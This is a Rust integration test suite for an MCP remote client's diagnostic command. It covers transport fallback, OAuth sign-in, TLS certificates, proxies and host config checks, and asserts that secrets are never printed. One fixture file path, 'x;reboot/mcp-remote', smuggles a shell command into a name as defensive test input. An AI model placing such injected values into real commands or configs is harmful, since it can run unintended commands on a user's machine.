//! `mcp-remote-client` as a user reads it: the connection step by step, calls and readings, exit codes, and no secrets.

use std::{
    path::{Path, PathBuf},
    process::Stdio,
    sync::Arc,
};

use rcgen::{BasicConstraints, CertificateParams, CertifiedIssuer, DnType, IsCa, KeyPair, date_time_ymd};
use serde_json::{Value, json};
use tempfile::TempDir;
use tokio::{
    io::{AsyncBufReadExt as _, BufReader, Lines, copy_bidirectional},
    net::{TcpListener, TcpStream},
    process::{Child, ChildStdout, Command},
    task::JoinSet,
};
use tokio_rustls::{
    TlsAcceptor,
    rustls::{
        ServerConfig,
        crypto::ring,
        pki_types::{CertificateDer, PrivateKeyDer},
    },
};

use crate::support::{
    authorization_server::{AuthorizationServer, Client, Settings},
    browser::{Browser, visit},
    kept,
    server::{Events, Reply, Request, Server, answer, initialize_result, ordinary, reserved_port},
    soon, stored,
};

pub struct Told {
    pub code: Option<i32>,
    pub stdout: String,
    pub stderr: String,
}

/// A person's terminal, with a home of its own.
pub struct Terminal {
    pub home: TempDir,
    environment: Vec<(String, String)>,
}

impl Terminal {
    pub fn new() -> Self {
        Self { home: tempfile::tempdir().unwrap(), environment: Vec::new() }
    }

    pub fn with(mut self, name: &str, value: &str) -> Self {
        self.environment.push((name.to_owned(), value.to_owned()));
        self
    }

    fn with_browser(self, browser: &Browser) -> Self {
        browser.environment().iter().fold(self, |terminal, (name, value)| terminal.with(name, value.to_str().unwrap()))
    }

    pub fn command(&self, arguments: &[&str]) -> Command {
        let mut command = Command::new(env!("CARGO_BIN_EXE_mcp-remote-client"));
        command.args(arguments).env_clear().envs(kept()).env("HOME", self.home.path()).current_dir(self.home.path());
        command.envs(self.environment.iter().map(|(name, value)| (name, value)));
        command.stdin(Stdio::null()).kill_on_drop(true);
        command
    }

    pub async fn run(&self, arguments: &[&str]) -> Told {
        let done = soon("the client ends", self.command(arguments).output()).await.unwrap();
        let text = |bytes| String::from_utf8(bytes).unwrap();
        Told { code: done.status.code(), stdout: text(done.stdout), stderr: text(done.stderr) }
    }

    /// What `mcp-remote login` says.
    async fn login(&self, url: &str) -> String {
        let mut command = Command::new(env!("CARGO_BIN_EXE_mcp-remote"));
        command
            .args(["login", url])
            .env_clear()
            .envs(kept())
            .env("HOME", self.home.path())
            .stdin(Stdio::null())
            .kill_on_drop(true);
        String::from_utf8(soon("login ends", command.output()).await.unwrap().stderr).unwrap()
    }

    /// Where the store is.
    fn store(&self) -> PathBuf {
        self.home.path().join(".mcp-auth")
    }
}

async fn client(arguments: &[&str]) -> Told {
    Terminal::new().run(arguments).await
}

/// Without what is different every time: times, versions, and these.
fn normal(text: &str, volatile: &[(&str, &str)]) -> String {
    let mut text = text.replace(env!("CARGO_PKG_VERSION"), "VERSION");
    for (what, name) in volatile {
        text = text.replace(what, name);
    }
    // The socket of another test may be there by chance.
    let taken = "info  callback-port         port CALLBACK is in use, so a sign-in uses the next free port";
    text = text.replace(taken, "ok    callback-port         port CALLBACK is free");
    let mut lines: Vec<String> = Vec::new();
    for line in text.lines() {
        let mut line = line.to_owned();
        if let Some(start) = line.find(" ms)") {
            let begin = line[..start].rfind('(').unwrap();
            line.replace_range(begin + 1..start, "N");
        }
        if let Some(at) = line.find("; expires in ") {
            let end = line[at + 2..].find(';').map_or(line.len(), |end| at + 2 + end);
            line.replace_range(at + 13..end, "TIME");
        }
        if let Some(at) = line.find("/authorize?") {
            line.truncate(at + "/authorize?".len());
        }
        lines.push(line.trim_end().to_owned());
    }
    lines.join("\n") + "\n"
}

#[track_caller]
fn assert_text(actual: &str, expected: &str) {
    assert_eq!(actual, expected, "\n--- is\n{actual}\n--- should be\n{expected}");
}

/// A server with something of everything.
pub fn rich(request: &Request) -> Reply {
    let arguments = || request.json()["params"]["arguments"].clone();
    match request.rpc().as_str() {
        "initialize" => Reply::result(
            request,
            json!({
                "protocolVersion": "2025-11-25",
                "capabilities": {"tools": {}, "resources": {"subscribe": true}, "prompts": {}},
                "serverInfo": {"name": "rich", "version": "4.2"},
                "instructions": "Ask nicely.\nOr not.",
            }),
        ),
        "server/discover" => Reply::error(request, -32601, "Method not found"),
        "tools/list" => Reply::result(
            request,
            json!({"tools": [
                {"name": "add", "description": "Adds\ntwo numbers", "inputSchema": {"type": "object"}},
                {"name": "find_zip", "description": "\u{1b}[31mred",
                 "inputSchema": {"type": "object", "properties": {"zip": {"type": "string"}}}},
            ]}),
        ),
        "resources/list" => Reply::result(request, json!({"resources": [{"uri": "file:///a", "name": "letter a"}]})),
        "resources/templates/list" => Reply::result(request, json!({"resourceTemplates": []})),
        "prompts/list" => Reply::result(request, json!({"prompts": [{"name": "greet", "description": "Says hello"}]})),
        "tools/call" if request.json()["params"]["name"] == "fails" => {
            Reply::result(request, json!({"content": [{"type": "text", "text": "no such luck"}], "isError": true}))
        }
        "tools/call" => Reply::result(
            request,
            json!({"content": [
                {"type": "text", "text": format!("got {}", arguments())},
                {"type": "image", "data": "AAAA", "mimeType": "image/png"},
            ]}),
        ),
        "resources/read" => Reply::result(
            request,
            json!({"contents": [{"uri": "file:///a", "mimeType": "text/plain", "text": "A\nB"}]}),
        ),
        _ => ordinary(request),
    }
}

#[tokio::test]
async fn open_server_is_reported_step_by_step() {
    let server = Server::with(rich).await;
    let url = server.url("/mcp");
    let told = client(&[&url]).await;
    assert_text(
        &normal(&told.stdout, &[(&server.port.to_string(), "PORT"), (&stored::port(&url).to_string(), "CALLBACK")]),
        "\
mcp-remote client VERSION: http://127.0.0.1:PORT/mcp

ok    environment           no variable is used that a host may not pass on
ok    callback-port         port CALLBACK is free
ok    tcp                   127.0.0.1:PORT (N ms)
ok    transport             Streamable HTTP (first choice)
ok    protocol              2025-11-25 or earlier: the server accepted initialize
ok    handshake             rich 4.2, protocol version 2025-11-25, capabilities: prompts, resources, tools (N ms)
                            Ask nicely.
                            Or not.
ok    tools                 2 (N ms)
                            add       Adds
                            find_zip   [31mred
ok    resources             1 (N ms)
                            file:///a  letter a
ok    resource-templates    0 (N ms)
ok    prompts               1 (N ms)
                            greet  Says hello

All checks passed.
",
    );
    assert_eq!((told.code, &*told.stderr), (Some(0), ""));
    let expected = ["POST initialize", "POST notifications/initialized", "GET"];
    let seen = server.summary();
    assert!(expected.iter().all(|one| seen.contains(&(*one).to_owned())), "{seen:?}");
    assert_eq!(server.asked("initialize").len(), 1, "no request but the adapter's own: {seen:?}");
}

#[tokio::test]
async fn unreachable_server_is_reported_with_one_tip() {
    let port = reserved_port().await;
    let url = format!("http://127.0.0.1:{port}/mcp");
    let told = client(&[&url]).await;
    let text = normal(&told.stdout, &[(&port.to_string(), "PORT")]);
    let end = text.find("FAIL").unwrap();
    assert_text(
        &text[end..],
        "\
FAIL  tcp                   cannot connect to 127.0.0.1:PORT: connection refused
                            Tip: check that the server is running, and that host and port in the server URL are right
                            Details: mcp-remote explain cannot_connect

Failed at tcp (exit code 4).
",
    );
    assert_eq!((told.code, &*told.stderr), (Some(4), ""));
}

/// Everything from the look at TCP on.
fn from_tcp(told: &Told, volatile: &[(&str, &str)]) -> String {
    let text = normal(&told.stdout, volatile);
    text[text.find("ok    tcp").unwrap_or_else(|| panic!("{text}"))..].to_owned()
}

#[tokio::test]
async fn web_site_is_reported_by_title() {
    let page = "<html><title>Welcome</title></html>";
    let server = Server::with(move |_| Reply::status(200, "text/html", page)).await;
    let told = client(&[&server.url("/mcp")]).await;
    assert_text(
        &from_tcp(&told, &[(&server.port.to_string(), "PORT")]),
        "\
ok    tcp                   127.0.0.1:PORT (N ms)
FAIL  transport             127.0.0.1:PORT returned text/html (\"Welcome\") instead of an MCP response
                            Tip: check the path of the server URL, which often ends in /mcp or /sse
                            Details: mcp-remote explain not_mcp

Failed at transport (exit code 5).
",
    );
    assert_eq!(told.code, Some(5));
}

#[tokio::test]
async fn server_era_and_remembered_era_are_reported() {
    let server = Server::with(|request| match request.rpc().as_str() {
        "initialize" => {
            let error = json!({ "code": -32022, "message": "no", "data": { "supported": ["2026-07-28"] } });
            let text = json!({ "jsonrpc": "2.0", "id": request.json()["id"], "error": error }).to_string();
            Reply::status(400, "application/json", text)
        }
        "server/discover" => Reply::result(
            request,
            r#"{"resultType":"complete","supportedVersions":["2026-07-28"],"capabilities":{},"ttlMs":0,"cacheScope":"private"}"#,
        ),
        _ => Reply::empty(405),
    })
    .await;
    let folder = tempfile::tempdir().unwrap();
    let (url, folder) = (server.url("/mcp"), folder.path().to_str().unwrap());
    let era = "ok    protocol              2026-07-28: the server answered server/discover\n";
    let first = client(&[&url, "--config-dir", folder]).await;
    assert!(first.stdout.contains(era) && !first.stdout.contains("remembered"), "{}", first.stdout);
    let second = client(&[&url, "--config-dir", folder, "--verbose"]).await;
    assert!(second.stdout.contains(era), "{}", second.stdout);
    let remembered = "                            remembered before: 2026-07-28 (learned just now: ";
    assert!(second.stdout.contains(remembered), "{}", second.stdout);
    assert_eq!(server.summary(), ["POST server/discover", "POST server/discover"]);
}

#[tokio::test]
async fn remembered_legacy_server_is_not_asked_for_discover() {
    let server = Server::with(rich).await;
    let folder = tempfile::tempdir().unwrap();
    let (url, folder) = (server.url("/mcp"), folder.path().to_str().unwrap());
    let era = "ok    protocol              2025-11-25 or earlier: the server accepted initialize\n";
    let first = client(&[&url, "--config-dir", folder, "--verbose"]).await;
    let refused = format!("{era}                            server/discover: Method not found\nok ");
    assert!(first.stdout.contains(&refused), "{}", first.stdout);
    let second = client(&[&url, "--config-dir", folder, "--verbose"]).await;
    let remembered =
        "server/discover was not sent, because the server is remembered (learned just now: Method not found)";
    let below = format!("{era}                            {remembered}\nok ");
    assert!(second.stdout.contains(&below), "{}", second.stdout);
    let plain = client(&[&url, "--config-dir", folder]).await;
    assert!(plain.stdout.contains(&format!("{era}ok ")), "{}", plain.stdout);
    let document = client(&[&url, "--config-dir", folder, "--json"]).await;
    let document: Value = serde_json::from_str(&document.stdout).unwrap();
    let protocol = document["steps"].as_array().unwrap().iter().find(|step| step["step"] == "protocol").unwrap();
    assert_eq!(protocol["details"], json!([remembered]));
    assert_eq!(server.asked("server/discover").len(), 1);
}

#[tokio::test]
async fn legacy_client_at_modern_server_names_both_eras() {
    let server = Server::with(|request| {
        let error = json!({ "code": -32022, "message": "no", "data": { "supported": ["2026-07-28"] } });
        let text = json!({ "jsonrpc": "2.0", "id": request.json()["id"], "error": error }).to_string();
        Reply::status(400, "application/json", text)
    })
    .await;
    let told = client(&[&server.url("/mcp"), "--protocol", "legacy"]).await;
    let text = from_tcp(&told, &[(&server.port.to_string(), "PORT")]);
    let failed = "FAIL  transport             protocol version not shared: the host uses MCP 2025-11-25 or earlier (initialize), \
                  --protocol legacy is set, and 127.0.0.1:PORT supports only 2026-07-28\n";
    assert!(text.contains(failed) && text.contains("explain protocol_version_not_shared\n"), "{text}");
    assert_eq!(text.matches("Tip: restart this server's entry in the host, then update the host").count(), 1, "{text}");
    assert_eq!(told.code, Some(5));
}

#[tokio::test]
async fn server_without_transport_is_reported_with_both_answers() {
    let server = Server::with(|_| Reply::status(404, "text/plain", "nothing here")).await;
    let told = client(&[&server.url("/mcp")]).await;
    let text = from_tcp(&told, &[(&server.port.to_string(), "PORT")]);
    let first = "info  transport             Streamable HTTP is not supported (HTTP 404 Not Found (\"nothing here\")), so HTTP+SSE is next\n";
    assert!(text.contains(first), "{text}");
    let failed = text.lines().find(|line| line.starts_with("FAIL  transport ")).unwrap_or_else(|| panic!("{text}"));
    assert!(failed.contains("neither transport works") && text.contains("explain no_transport\n"), "{text}");
    assert_eq!(told.code, Some(5));
}

#[tokio::test]
async fn http_sse_is_reported_with_reason() {
    let server = Server::start({
        let stream = Arc::new(std::sync::Mutex::new(None::<Events>));
        move |request: Request| {
            let stream = stream.clone();
            async move {
                match (request.method.as_str(), request.path.as_str()) {
                    ("GET", "/sse") => {
                        let (reply, events) = Reply::events();
                        events.raw("event: endpoint\ndata: /messages\n\n");
                        *stream.lock().unwrap() = Some(events);
                        reply
                    }
                    ("POST", "/messages") => {
                        let result = match request.rpc().as_str() {
                            "initialize" => Some(initialize_result(&request)),
                            "tools/list" => Some(r#"{"tools":[]}"#.to_owned()),
                            _ => None,
                        };
                        if let Some(result) = result {
                            let events = stream.lock().unwrap().clone().unwrap();
                            events.message(answer(&request, result));
                        }
                        Reply::empty(202)
                    }
                    _ => Reply::empty(405),
                }
            }
        }
    })
    .await;
    let told = client(&[&server.url("/sse")]).await;
    assert!(told.stdout.contains("\nok    transport             HTTP+SSE (fallback)\n"), "{}", told.stdout);
    assert_eq!(told.code, Some(0));
}

/// A pair of servers that is ordinary but for having something of everything.
async fn protected(change: impl FnOnce(&mut Settings)) -> AuthorizationServer {
    AuthorizationServer::with(|settings| {
        settings.mcp = Arc::new(rich);
        change(settings);
    })
    .await
}

fn volatile(server: &AuthorizationServer) -> Vec<(String, &'static str)> {
    let port = |origin: &str| origin.rsplit(':').next().unwrap().to_owned();
    let at = server.addresses();
    vec![
        (port(&at.mcp), "PORT"),
        (port(&at.authorization), "ISSUER"),
        (stored::port(&server.url()).to_string(), "CALLBACK"),
    ]
}

fn normal_for(server: &AuthorizationServer, text: &str) -> String {
    let volatile = volatile(server);
    let volatile: Vec<_> = volatile.iter().map(|(what, name)| (what.as_str(), *name)).collect();
    normal(text, &volatile)
}

#[tokio::test]
async fn sign_in_is_reported_step_by_step() {
    let server = protected(|settings| {
        settings.challenges = vec![r#"Bearer resource_metadata="{prm}", scope="read:things""#.into()];
    })
    .await;
    let browser = Browser::consenting();
    let terminal = Terminal::new().with_browser(&browser);
    let told = terminal.run(&[&server.url()]).await;
    assert_text(
        &normal_for(&server, &told.stdout).replace(browser.command(), "BROWSER"),
        "\
mcp-remote client VERSION: http://127.0.0.1:PORT/mcp

warn  environment           this connection uses BROWSER, which a host may not pass on
                            Tip: write it into the \"env\" of the host's entry: \"BROWSER\": \"…\"
ok    callback-port         port CALLBACK is free
ok    tcp                   127.0.0.1:PORT (N ms)
info  challenge             HTTP 401, Bearer; resource_metadata http://127.0.0.1:PORT/.well-known/oauth-protected-resource/mcp; scope read:things
ok    resource              http://127.0.0.1:PORT/mcp
ok    authorization-server  http://127.0.0.1:ISSUER; PKCE S256; client registration: dynamic registration
ok    client                client-1-PORT (registered now by dynamic client registration)
info  sign-in               waiting for you to sign in at 127.0.0.1. If no browser opens, open this URL:
                            http://127.0.0.1:ISSUER/oauth/authorize?
ok    token                 just signed in; bearer; scope read:things; expires in TIME; can be refreshed
ok    transport             Streamable HTTP (first choice)
ok    protocol              2025-11-25 or earlier: the server accepted initialize
ok    handshake             rich 4.2, protocol version 2025-11-25, capabilities: prompts, resources, tools (N ms)
                            Ask nicely.
                            Or not.
ok    tools                 2 (N ms)
                            add       Adds
                            find_zip   [31mred
ok    resources             1 (N ms)
                            file:///a  letter a
ok    resource-templates    0 (N ms)
ok    prompts               1 (N ms)
                            greet  Says hello

All checks passed, with 1 warning.
",
    );
    assert_eq!((told.code, &*told.stderr), (Some(0), ""));
    // The next one finds it.
    let told = terminal.run(&[&server.url()]).await;
    let text = normal_for(&server, &told.stdout);
    for expected in [
        "ok    store                 ~/.mcp-auth/mcp-remote-v1 is writable, by you only\n",
        "ok    stored-sign-in        expires in ",
        "ok    token                 from an earlier sign-in; bearer; scope read:things; expires in TIME; can be refreshed\n",
    ] {
        assert!(text.contains(expected), "{expected}: {text}");
    }
    assert_eq!(server.counts().tabs, 1);
}

/// A client that runs, and what it says.
struct Running {
    child: Child,
    lines: Lines<BufReader<ChildStdout>>,
}

impl Running {
    fn start(mut command: Command) -> Self {
        let mut child = command.stdout(Stdio::piped()).spawn().unwrap();
        let lines = BufReader::new(child.stdout.take().unwrap()).lines();
        Self { child, lines }
    }

    /// Waits for a line that has this in it.
    async fn says(&mut self, what: &str) -> String {
        soon(&format!("it says {what}"), async {
            loop {
                let line = self.lines.next_line().await.unwrap().unwrap_or_else(|| panic!("it never says {what}"));
                assert!(!line.starts_with("FAIL"), "{line}");
                if line.contains(what) {
                    return line;
                }
            }
        })
        .await
    }

    /// The address of a sign-in.
    async fn address(&mut self) -> String {
        let line = self.says("/authorize?").await;
        line[line.find("http://").unwrap()..].to_owned()
    }
}

#[tokio::test]
async fn lines_are_printed_when_known() {
    let server = protected(|_| {}).await;
    let terminal = Terminal::new();
    let mut client = Running::start(terminal.command(&[&server.url(), "--no-browser"]));
    client.says("waiting for you to sign in at 127.0.0.1. If no browser opens, open this URL:").await;
    let address = client.address().await;
    assert_eq!(server.counts().exchanges, 0, "nobody has signed in yet");
    assert_eq!(visit(&address).await.status, 200);
    client.says("just signed in").await;
    client.says("All checks passed.").await;
    assert_eq!(soon("it ends", client.child.wait()).await.unwrap().code(), Some(0));
}

#[tokio::test]
async fn sign_in_of_other_instance_is_used() {
    let server = protected(|_| {}).await;
    let terminal = Terminal::new();
    let mut first = Running::start(terminal.command(&[&server.url(), "--no-browser"]));
    let address = first.address().await;
    let mut second = Running::start(terminal.command(&[&server.url(), "--no-browser"]));
    second.says("another mcp-remote process waits for you to sign in").await;
    assert_eq!(second.address().await, address);
    visit(&address).await;
    first.says("All checks passed.").await;
    second.says("from an earlier sign-in").await;
    second.says("All checks passed.").await;
    assert_eq!(server.counts().exchanges, 1);
}

#[tokio::test]
async fn denied_sign_in_is_reported_at_its_step() {
    let server = protected(|settings| settings.denies = Some(("access_denied".into(), "not today".into()))).await;
    let browser = Browser::consenting();
    let told = Terminal::new().with_browser(&browser).run(&[&server.url()]).await;
    let failed = told
        .stdout
        .lines()
        .find(|line| line.starts_with("FAIL  sign-in "))
        .unwrap_or_else(|| panic!("{}", told.stdout));
    assert!(failed.contains("access_denied (\"not today\")"), "{failed}");
    assert!(
        told.stdout.contains("Tip: sign in again and allow access, if you did not mean to deny it\n"),
        "{}",
        told.stdout
    );
    assert_eq!(told.code, Some(3));
}

#[tokio::test]
async fn sign_in_for_tools_is_reported_at_tools() {
    let server = protected(|settings| settings.open = |request| request.rpc() != "tools/list").await;
    let browser = Browser::consenting();
    let told = Terminal::new().with_browser(&browser).run(&[&server.url()]).await;
    let at = |what: &str| told.stdout.find(what).unwrap_or_else(|| panic!("{what}: {}", told.stdout));
    assert!(at("ok    handshake") < at("info  challenge"), "{}", told.stdout);
    assert!(at("ok    token") < at("ok    tools"), "{}", told.stdout);
    assert_eq!(told.code, Some(0));
}

#[tokio::test]
async fn refused_user_credential_is_reported() {
    let server = protected(|_| {}).await;
    let told = client(&[&server.url(), "--header", "Authorization: Bearer hush-hush"]).await;
    let failed = told.stdout.lines().find(|line| line.starts_with("FAIL")).unwrap_or_else(|| panic!("{}", told.stdout));
    assert!(failed.starts_with("FAIL  challenge "), "{failed}");
    assert!(told.stdout.contains("explain credential_refused\n"), "{}", told.stdout);
    assert_eq!(told.code, Some(3));
}

/// A private authority's certificate for 127.0.0.1, and TLS with it in front of a server.
struct Tls {
    port: u16,
    folder: TempDir,
    _tasks: JoinSet<()>,
}

impl Tls {
    async fn before(server: &Server) -> Self {
        Self::with(server, IsCa::NoCa).await
    }

    /// `is_ca` is whether the server's certificate says that it is an authority's.
    async fn with(server: &Server, is_ca: IsCa) -> Self {
        let mut params = CertificateParams::new([]).unwrap();
        params.is_ca = IsCa::Ca(BasicConstraints::Unconstrained);
        params.distinguished_name.push(DnType::CommonName, "Company Proxy");
        let issuer = CertifiedIssuer::self_signed(params, KeyPair::generate().unwrap()).unwrap();
        let mut params = CertificateParams::new(vec!["127.0.0.1".to_owned()]).unwrap();
        (params.not_before, params.not_after) = (date_time_ymd(2020, 1, 1), date_time_ymd(2101, 2, 3));
        params.is_ca = is_ca;
        let key = KeyPair::generate().unwrap();
        let own = params.signed_by(&key, &issuer).unwrap();
        let chain = vec![CertificateDer::from(own.der().to_vec())];
        let key = PrivateKeyDer::try_from(key.serialize_der()).unwrap();
        let config = ServerConfig::builder_with_provider(Arc::new(ring::default_provider()));
        let config = config.with_safe_default_protocol_versions().unwrap().with_no_client_auth();
        let acceptor = TlsAcceptor::from(Arc::new(config.with_single_cert(chain, key).unwrap()));
        let folder = tempfile::tempdir().unwrap();
        std::fs::write(folder.path().join("ca.pem"), issuer.pem()).unwrap();
        std::fs::write(folder.path().join("own.pem"), own.pem()).unwrap();
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let (port, behind, mut tasks) = (listener.local_addr().unwrap().port(), server.port, JoinSet::new());
        tasks.spawn(async move {
            let mut open = JoinSet::new();
            while let Ok((stream, _)) = listener.accept().await {
                let acceptor = acceptor.clone();
                open.spawn(async move {
                    let Ok(mut stream) = acceptor.accept(stream).await else { return };
                    let mut behind = TcpStream::connect(("127.0.0.1", behind)).await.unwrap();
                    _ = copy_bidirectional(&mut stream, &mut behind).await;
                });
            }
        });
        Self { port, folder, _tasks: tasks }
    }

    fn url(&self) -> String {
        format!("https://127.0.0.1:{}/mcp", self.port)
    }

    fn ca(&self) -> String {
        self.file("ca.pem")
    }

    fn file(&self, name: &str) -> String {
        self.folder.path().join(name).to_str().unwrap().to_owned()
    }
}

#[tokio::test]
async fn certificate_is_reported_with_issuer() {
    let server = Server::with(ordinary).await;
    let tls = Tls::before(&server).await;
    let shown = "tls                   TLS 1.3, certificate issued by Company Proxy, valid until 2101-02-03 (";
    let told = client(&[&tls.url()]).await;
    assert!(told.stdout.contains(&format!("\ninfo  {shown}")), "{}", told.stdout);
    let failed =
        told.stdout.lines().find(|line| line.starts_with("FAIL  tls ")).unwrap_or_else(|| panic!("{}", told.stdout));
    assert!(failed.contains("127.0.0.1") && failed.contains("Company Proxy"), "{failed}");
    assert!(told.stdout.contains("explain certificate_not_trusted\n"), "{}", told.stdout);
    assert!(told.stdout.contains("--ca-cert"), "{}", told.stdout);
    assert_eq!((told.code, server.requests().len()), (Some(4), 0));
    let told = client(&[&tls.url(), "--ca-cert", &tls.ca()]).await;
    assert!(told.stdout.contains(&format!("\nok    {shown}")), "{}", told.stdout);
    assert!(told.stdout.contains("\nok    transport "), "{}", told.stdout);
}

#[tokio::test]
async fn authority_as_server_certificate_is_trusted_where_named() {
    let server = Server::with(ordinary).await;
    let tls = Tls::with(&server, IsCa::Ca(BasicConstraints::Unconstrained)).await;
    for arguments in [&[][..], &["--ca-cert", &tls.ca()]] {
        let told = client(&[&[&*tls.url()], arguments].concat()).await;
        assert!(told.stdout.contains(" belongs to a certificate authority (subject: "), "{}", told.stdout);
        assert!(
            told.stdout.contains("Tip: trust that certificate itself, not its issuer's: --ca-cert FILE"),
            "{}",
            told.stdout
        );
        assert_eq!(told.code, Some(4));
    }
    let named = ["--ca-cert", &tls.file("own.pem")];
    let told = client(&[&[&*tls.url()], &named[..]].concat()).await;
    assert!(told.stdout.contains("\nok    transport "), "{}", told.stdout);
    // For its own name only.
    let other = tls.url().replace("127.0.0.1", "localhost");
    let told = client(&[&[&*other], &named[..]].concat()).await;
    assert!(told.stdout.contains("explain certificate_wrong_name\n"), "{}", told.stdout);
}

#[tokio::test]
async fn proxy_is_reported_without_password() {
    let proxy = Server::with(|_| Reply::status(407, "text/plain", "who are you?")).await;
    let through = format!("http://anna:hush-hush@127.0.0.1:{}", proxy.port);
    let told = client(&["https://far.example/mcp", "--proxy", &through]).await;
    let text = normal(&told.stdout, &[(&proxy.port.to_string(), "PORT")]);
    let text = &text[text.find("ok    proxy").unwrap_or_else(|| panic!("{text}"))..];
    let (looked, failed) = text.split_at(text.find("FAIL").unwrap_or_else(|| panic!("{text}")));
    assert_text(
        looked,
        "\
ok    proxy                 http://127.0.0.1:PORT
ok    tcp                   127.0.0.1:PORT (N ms)
",
    );
    assert!(failed.starts_with("FAIL  proxy ") && failed.contains("far.example"), "{failed}");
    assert!(
        failed.contains("explain proxy_refused\n") && failed.contains("check user name and password in the proxy URL"),
        "{failed}"
    );
    assert!(!told.stdout.contains("hush"), "{}", told.stdout);
    assert_eq!(told.code, Some(4));
}

#[tokio::test]
async fn unknown_host_name_is_reported_at_its_step() {
    let told = client(&["https://nobody.invalid/mcp", "--connect-timeout", "5"]).await;
    let failed = told.stdout.lines().find(|line| line.starts_with("FAIL")).unwrap_or_else(|| panic!("{}", told.stdout));
    assert!(failed.starts_with("FAIL  dns ") && told.stdout.contains("explain name_not_found\n"), "{failed}");
    assert_eq!(told.code, Some(4));
}

#[tokio::test]
async fn addresses_of_host_name_are_reported() {
    let server = Server::with(rich).await;
    let told = client(&[&server.url("/mcp").replace("127.0.0.1", "localhost")]).await;
    let name =
        told.stdout.lines().find(|line| line.starts_with("ok    dns ")).unwrap_or_else(|| panic!("{}", told.stdout));
    assert!(name.contains("localhost resolves to ") && name.contains("127.0.0.1 (IPv4)"), "{name}");
    assert!(
        told.stdout.contains(&format!("ok    tcp                   127.0.0.1:{} (", server.port)),
        "{}",
        told.stdout
    );
    assert_eq!(told.code, Some(0), "{}", told.stdout);
}

#[tokio::test]
async fn stripped_environment_is_reported_with_flag() {
    let server = Server::with(ordinary).await;
    let tls = Tls::before(&server).await;
    let terminal = Terminal::new().with("NODE_EXTRA_CA_CERTS", &tls.ca()).with("KEY", "hush-hush");
    let told = terminal.run(&[&tls.url(), "--header", "X-Key:${KEY}"]).await;
    for expected in [
        "warn  environment           this connection uses KEY, which a host may not pass on\n",
        "\"KEY\": \"…\"\n",
        "warn  environment           this connection uses NODE_EXTRA_CA_CERTS, which a host may not pass on\n",
        "Tip: write --ca-cert FILE into the \"args\" of the host's entry\n",
    ] {
        assert!(told.stdout.contains(expected), "{expected}: {}", told.stdout);
    }
    assert_eq!(server.asked("initialize")[0].header("x-key"), Some("hush-hush"));
    assert!(!told.stdout.contains("hush-hush"), "{}", told.stdout);
    let safe = Terminal::new().run(&[&tls.url(), "--ca-cert", &tls.ca()]).await;
    assert!(safe.stdout.contains("ok    environment "), "{}", safe.stdout);
}

pub fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[tokio::test]
async fn host_entries_are_judged_without_secrets() {
    let server = Server::with(rich).await;
    let url = server.url("/mcp");
    let terminal = Terminal::new();
    let home = terminal.home.path();
    let entry = |command: &str, more: &str| {
        format!(
            r#"{{"mcpServers": {{"mine": {{"command": "{command}", "args": ["{url}", {more}], "env": {{"KEY": "hush-env"}}}}}}}}"#
        )
    };
    let ours = env!("CARGO_BIN_EXE_mcp-remote");
    write(&home.join(".cursor/mcp.json"), &entry(ours, r#""--header", "X-Key:hush-there""#));
    write(&home.join(".claude.json"), &entry("/no/such/mcp-remote", r#""--header", "X-Key:hush-here""#));
    write(
        &home.join(".gemini/settings.json"),
        r#"{"mcpServers": {"other": {"command": "cat", "args": ["mcp-remot"]}}}"#,
    );
    write(
        &home.join(".codeium/windsurf/mcp_config.json"),
        &format!(r#"{{"mcpServers": {{"moved": {{"command": "{ours}", "args": ["-y", "mcp-remote", "{url}"]}}}}}}"#),
    );
    let bare = home.join("x;reboot/mcp-remote");
    write(&bare, "");
    write(
        &home.join(".copilot/mcp-config.json"),
        &json!({"mcpServers": {"c": {"command": bare, "args": ["https://other.example/mcp"]}}}).to_string(),
    );
    write(&home.join(".config/goose/config.yaml"), "extensions:\n  a:\n    cmd: mcp-remote\n");
    write(
        &home.join(".config/zed/settings.json"),
        &format!(
            r#"{{ // a comment, and a comma
            "context_servers": {{"z": {{"command": "{ours}", "args": ["--header=X-Key:hush-here", "{url}"],}}}}}}"#
        ),
    );
    let told = terminal.run(&[&url, "--header", "X-Key:hush-here"]).await;
    for expected in [
        "warn  host                  Cursor, ~/.cursor/mcp.json, \"mine\": the entry has other arguments than given here: --header has another value\n                            Tip: test the entry itself: mcp-remote client --entry mine\n",
        "FAIL  host                  Claude Code, ~/.claude.json, \"mine\": \"command\" names /no/such/mcp-remote, which does not exist\n",
        "\"moved\": \"args\" still has the arguments of npx, which mcp-remote does not take\n                            Tip: remove \"-y\" and \"mcp-remote\" before the server URL\n",
        "ok    host                  Zed, ~/.config/zed/settings.json, \"z\": its command exists, and its arguments are those given here\n",
        "info  host                  goose, ~/.config/goose/config.yaml: mentions mcp-remote, but mcp-remote client does not read this format\n",
        "Tip: make that file executable: chmod +x FILE\n",
        "Failed at host (exit code 1).\n",
    ] {
        assert!(told.stdout.contains(expected), "{expected}: {}", told.stdout);
    }
    assert!(!told.stdout.contains("Gemini") && !told.stdout.contains("hush"), "{}", told.stdout);
    assert_eq!(told.code, Some(1));
}

#[tokio::test]
async fn unreadable_host_entry_is_reported() {
    let server = Server::with(rich).await;
    let url = server.url("/mcp");
    let terminal = Terminal::new();
    let home = terminal.home.path();
    let ours = env!("CARGO_BIN_EXE_mcp-remote");
    let file = |name: &str, servers: Value| write(&home.join(name), &json!({"mcpServers": servers}).to_string());
    file(
        ".cursor/mcp.json",
        json!({
            "line": {"command": format!("{ours} {url} --header Authorization:hush")},
            "text": {"command": ours, "args": format!("{url} --debug")},
            "one": {"command": ours, "args": [format!("{url} --header Authorization:hush")]},
            "fine": {"command": ours, "args": [&url, "--header", "Referer: http://a.example"]},
        }),
    );
    let comma = format!(r#"{{"mcpServers": {{"c": {{"command": "{ours}", "args": ["{url}",]}}}}}}"#);
    write(&home.join(".config/Claude/claude_desktop_config.json"), &comma);
    write(&home.join(".gemini/settings.json"), &json!({"mine": {"command": ours, "args": [&url]}}).to_string());
    let told = terminal.run(&[&url]).await;
    let lost = "FAIL  host                  Gemini CLI, ~/.gemini/settings.json: has no \"mcpServers\" object. In its place is \"mine\"\n";
    assert!(told.stdout.contains(lost), "{}", told.stdout);
    for name in ["text", "one"] {
        let expected = format!(
            "FAIL  host                  Cursor, ~/.cursor/mcp.json, \"{name}\": all arguments are one string\n                            Tip: write each argument as a separate element of \"args\"\n"
        );
        assert!(told.stdout.contains(&expected), "{expected}: {}", told.stdout);
    }
